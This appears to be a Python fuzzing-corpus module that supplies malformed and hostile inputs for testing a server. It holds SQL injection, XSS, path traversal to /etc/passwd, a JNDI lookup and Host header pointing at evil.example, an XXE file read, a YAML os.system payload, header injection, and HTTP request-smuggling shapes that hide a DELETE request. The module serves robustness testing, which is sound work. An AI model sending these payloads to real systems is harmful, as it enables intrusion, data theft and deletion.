"""Values, texts, bodies and whole requests that have broken servers, ours or somebody else's."""

from __future__ import annotations

import json
from collections.abc import Iterator

CANARY = "canary<5f2e>"  # in what is sent; never in an error that comes back
MARK = "@@"  # in a body, where a value is put

# ---- values in JSON, as they are written; some are no JSON --------------------------------------

NUMBERS = (
    "NaN",
    "Infinity",
    "-Infinity",
    "1e999",
    "-1e999",
    "1e308",
    "-0.0",
    "5e-324",
    "9" * 5_000,
    "-" + "9" * 400,
    str(2**31),
    str(2**53),
    str(2**53 + 1),
    str(-(2**63) - 1),
    str(2**70),
    "0",
    "-1",
    "1.5",
    "0x10",
    "01",
    "1_000",
    "+1",
    ".5",
    "1e",
    "0." + "1" * 3_000,
)
STRINGS = (
    CANARY,
    "",
    " ",
    "\u0000",
    f"{CANARY}\u0000",
    "\ud800",
    f"{CANARY}\udfff",
    "\ufeff",
    "\u202e\u2066",
    "\u2028\u2029",
    "\r\nSet-Cookie: a=b",
    "\x1b]0;owned\x07",
    f"../../../etc/passwd{CANARY}",
    "..\\..\\windows",
    "/dev/zero",
    "file:///etc/passwd",
    "CON",
    "." * 300,
    "x" * 257,
    "x" * 70_000,
    "e\u0301" * 200,
    f"<script>window.__pwned=1</script>{CANARY}",
    f"'; DROP TABLE runs; --{CANARY}",
    "%s%n%x{0}{self.__class__}",
    "${jndi:ldap://evil.example}",
    "=HYPERLINK(1)",
    "__proto__",
    "constructor",
    "1",
    "true",
    "null",
    "NaN",
    "9" * 400,
    "1e999",
    "!!python/object/apply:os.system [true]",
    "&a [*a]",
    "a: " * 1_000,
)
STRUCTURES = (
    "null",
    "true",
    "false",
    "[]",
    "{}",
    '[""]',
    "[[[]]]",
    "[" * 33 + "]" * 33,
    '{"a":' * 33 + "1" + "}" * 33,
    "[" * 50_000,
    '{"a":' * 20_000,
    '{"a":1,"a":2}',
    '{"":1}',
    f'{{"{CANARY}":1}}',
    '{"\\ud800":1}',
    '{"\\u0000":1}',
    '{"__proto__":{"x":1}}',
    '{"kind":"stop"}',
    "[" + "1," * 2_000 + "1]",
    "{" + ",".join(f'"k{number}":1' for number in range(300)) + "}",
)
BROKEN = (
    b"",
    b"'",
    b'"',
    b'"\\x"',
    b'"\\u12"',
    b"tru",
    b"undefined",
    b"//",
    b",",
    b"}",
    b"]",
    b"1 2",
    b"\x00",
    b'"\xff"',
    b'"\xed\xa0\x80"',
    b'"\xc0\x80"',
    b'"\xf4\x90\x80\x80"',
    b'"a\nb"',
    b"\xef\xbb\xbf1",
    b"1;",
)
VALUES: tuple[bytes, ...] = (
    *(text.encode() for text in NUMBERS),
    *(json.dumps(text).encode() for text in STRINGS),
    *(text.encode() for text in STRUCTURES),
    *BROKEN,
)
# Whole bodies: values, and what is no JSON in any place.
BODIES: tuple[bytes, ...] = (
    *VALUES,
    b"\xff\xfe{\x00}\x00",
    "{}".encode("utf-32"),
    b"{}{}",
    b"{} garbage",
    b'{"a":1}' * 100,
    b"\x1f\x8b\x08\x00",
    b"a=b&c=d",
    b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--x--",
    b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    b" " * 100_000,
    b'"' * 9_999,
    b'{"' * 9_999,
)

# ---- texts in addresses and headers -------------------------------------------------------------

TEXTS: tuple[bytes, ...] = (
    b"",
    b"0",
    b"-1",
    b"1.0",
    b"1e3",
    b"+1",
    b" 1",
    b"%201",
    b"%EF%BC%91",  # a digit, but not of ours
    b"%D9%A1",
    b"9" * 30,
    b"9" * 4_400,  # more than Python turns into a number
    str(2**53 + 1).encode(),
    str(2**63).encode(),
    str(2**64).encode(),
    b"NaN",
    b"inf",
    b"-Infinity",
    b"true",
    b"null",
    b"undefined",
    b"%00",
    b"1%00",
    b"%ff",
    b"%ed%a0%80",
    b"%c0%ae%c0%ae",
    b"%u0031",
    b"%",
    b"%zz",
    b"%0d%0aSet-Cookie:%20a=b",
    b"%0a",
    b"%09",
    b"%1b%5b2J",
    b"..",
    b".",
    b"%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    b"..%5c..%5cwindows",
    b"%252e%252e%252f",
    b"..;",
    b"1;2",
    b"1,2,3",
    b"1/../2",
    b"1//",
    b"*",
    b"canary%3C5f2e%3E",
    b"canary<5f2e>",
    b"%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    b"'%20OR%20'1'='1",
    b"1)%20UNION%20SELECT%20*%20FROM%20sessions--",
    b"%25_%25",
    b"%e2%80%ae",
    b"[]",
    b"{}",
    b"a[b]=c",
    b"x" * 300,
    b"x" * 7_000,
    b"x" * 9_000,
    b"\xc3\xa9",
    b"\xff\xfe",
    b"\x01",
    b"\x7f",
    b"asc",
    b"desc,asc",
    b"train/*",
    b"*" * 500,
)


def shapes(line: bytes, host: bytes, authority: bytes) -> Iterator[bytes]:
    """Whole requests in forms that two parsers read differently, or that ask for too much.

    line: method and target; host: the header's value; authority: headers that say who asks.
    """
    head = line + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + authority
    kind = b"Content-Type: application/json\r\n"
    inner = b'{"text": "smuggled", "name": "smuggled"}'
    size = b"%d" % len(inner)
    second = b"DELETE /api/runs/1 HTTP/1.1\r\nHost: " + host + b"\r\n" + kind + b"\r\n"
    lengths = [size + b"\r\nContent-Length: 0", b"+" + size, b"-1", b"0x10", b"1e1", size + b", 0"]
    lengths += [b"9" * 30, b"", b" ", b"\xd9\xa1", b"3 3"]
    for length in lengths:
        yield head + kind + b"Content-Length: " + length + b"\r\n\r\n" + inner
    for coding in (b"chunked", b"Chunked, identity", b"xchunked", b"gzip, chunked", b"\x0bchunked"):
        yield (
            head
            + kind
            + b"Transfer-Encoding: "
            + coding
            + b"\r\nContent-Length: 4\r\n\r\n"
            + (b"0\r\n\r\n" + second)
        )
    both = b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n"
    yield head + kind + both
    for chunk in (b"zz\r\n", b"-1\r\n", b"5;a=\x00\r\n", b"5\n"):
        yield head + kind + b"Transfer-Encoding: chunked\r\n\r\n" + chunk + b"aaaaa\r\n0\r\n\r\n"
    yield head + b" folded: yes\r\n\tonce more\r\n\r\n"
    yield (head + b"\r\n").replace(b"\r\n", b"\n")
    for bad in (
        b"X:\x00",
        b"X : a",
        b": a",
        b"X",
        b"X\xff: a",
        b"X: a\rY: b",
        b"X: \x0b",
        b"X\ty: 1",
    ):
        yield head + bad + b"\r\n\r\n"
    yield head + b"X: " + b"a" * 70_000 + b"\r\n\r\n"
    yield head + b"".join(b"X-%d: a\r\n" % number for number in range(3_000)) + b"\r\n"
    yield head + b"Host: evil.example\r\n\r\n"
    yield head + b"Content-Type: text/plain\r\n" + kind + b"Content-Length: 2\r\n\r\n{}"
    yield head + b"Authorization: Bearer x\r\nAuthorization: Bearer y\r\n\r\n"
    yield head + b"Expect: 200-maybe\r\n\r\n"
    yield (
        head + b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AA\r\n\r\n"
    )
    yield head + b"Range: bytes=" + b"0-0," * 2_000 + b"1-1\r\n\r\n"
    for version in (b"HTTP/0.9", b"HTTP/1.2", b"HTTP/2.0", b"HTTP/9.9", b"http/1.1", b"HTTP/1.1 x"):
        yield line + b" " + version + b"\r\nHost: " + host + b"\r\n" + authority + b"\r\n"
    yield line + b"\r\n\r\n"
    yield b"\r\n" * 5 + head + b"\r\n"
    yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 64 + b"\r\n\r\n"
    yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    yield line.replace(b" ", b"\t") + b" HTTP/1.1\r\n\r\n"
    yield line.replace(b" /", b" http://evil.example/") + head[len(line) :] + b"\r\n"
    yield line.replace(b" /", b"  /") + head[len(line) :] + b"\r\n"
